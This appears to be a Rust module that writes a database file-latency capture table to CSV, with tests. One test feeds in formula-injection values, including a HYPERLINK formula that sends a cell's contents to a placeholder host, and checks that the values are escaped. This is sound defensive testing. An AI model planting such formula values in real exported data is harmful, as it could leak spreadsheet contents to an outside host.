//! The capture table as CSV.

use history::CaptureRow;
use report::csv::{Cell, row};

/// The columns, as `--json` calls them.
const HEADING: [&str; 23] = [
    "capture_id",
    "capture_date",
    "read_latency_ms",
    "write_latency_ms",
    "overall_latency_ms",
    "bytes_per_read",
    "bytes_per_write",
    "bytes_per_transfer",
    "drive",
    "database_name",
    "database_id",
    "file_id",
    "sample_ms",
    "reads",
    "bytes_read",
    "read_stall_ms",
    "writes",
    "bytes_written",
    "write_stall_ms",
    "total_stall_ms",
    "size_on_disk_mb",
    "file_handle",
    "physical_name",
];

/// A heading and a row for each file of each capture. Unknown figures are empty.
pub(super) fn sheet(rows: &[CaptureRow]) -> String {
    let heading = row(HEADING.map(Cell::from));
    rows.iter().fold(heading, |text, capture| text + &row(cells(capture)))
}

fn cells(capture: &CaptureRow) -> [Cell; 23] {
    [
        capture.capture_id.0.into(),
        capture.capture_date.as_str().into(),
        capture.read_latency_ms.into(),
        capture.write_latency_ms.into(),
        capture.overall_latency_ms.into(),
        capture.bytes_per_read.into(),
        capture.bytes_per_write.into(),
        capture.bytes_per_transfer.into(),
        capture.drive.as_deref().into(),
        capture.database_name.as_deref().into(),
        capture.database_id.into(),
        capture.file_id.as_str().into(),
        capture.sample_ms.into(),
        capture.reads.into(),
        capture.bytes_read.into(),
        capture.read_stall_ms.into(),
        capture.writes.into(),
        capture.bytes_written.into(),
        capture.write_stall_ms.into(),
        capture.total_stall_ms.into(),
        capture.size_on_disk_mb.into(),
        capture.file_handle.as_deref().into(),
        capture.physical_name.as_str().into(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::Value;

    /// Each text of the row says which column it is.
    fn labelled() -> CaptureRow {
        CaptureRow {
            capture_date: "capture_date".into(),
            drive: Some("drive".into()),
            database_name: Some("database_name".into()),
            file_id: "file_id".into(),
            file_handle: Some("file_handle".into()),
            physical_name: "physical_name".into(),
            read_latency_ms: Some(1.5),
            size_on_disk_mb: Some(3.0),
            reads: 7,
            ..CaptureRow::default()
        }
    }

    #[test]
    fn each_heading_stands_over_its_own_column() {
        let text = sheet(&[labelled()]);
        let lines: Vec<Vec<&str>> = text.lines().map(|line| line.split(',').collect()).collect();
        let Value::Object(json) = serde_json::to_value(labelled()).unwrap() else { panic!("no object") };
        assert_eq!((json.len(), lines[1].len()), (HEADING.len(), HEADING.len()));
        for (heading, cell) in lines[0].iter().zip(&lines[1]) {
            let expected = match &json[*heading] {
                Value::Null => String::new(),
                Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            assert_eq!(*cell, expected, "{heading}");
        }
        assert_eq!(sheet(&[]), row(HEADING.map(Cell::from)), "a heading even without rows");
    }

    #[test]
    fn no_name_of_a_file_or_database_begins_a_formula() {
        let formula = "=HYPERLINK(\"http://x/?\"&A1)";
        let hostile = CaptureRow {
            drive: Some(formula.into()),
            database_name: Some("@SUM(A1)".into()),
            file_id: "+1+2".into(),
            file_handle: Some("-1+2".into()),
            physical_name: formula.into(),
            ..CaptureRow::default()
        };
        let text = sheet(&[hostile]);
        for guarded in [",\"'=HYPERLINK(", ",'@SUM(A1),", ",'+1+2,", ",'-1+2,"] {
            assert!(text.contains(guarded), "no {guarded} in {text}");
        }
        assert!(!text.contains(",=") && !text.contains(",\"="), "{text}");
    }
}
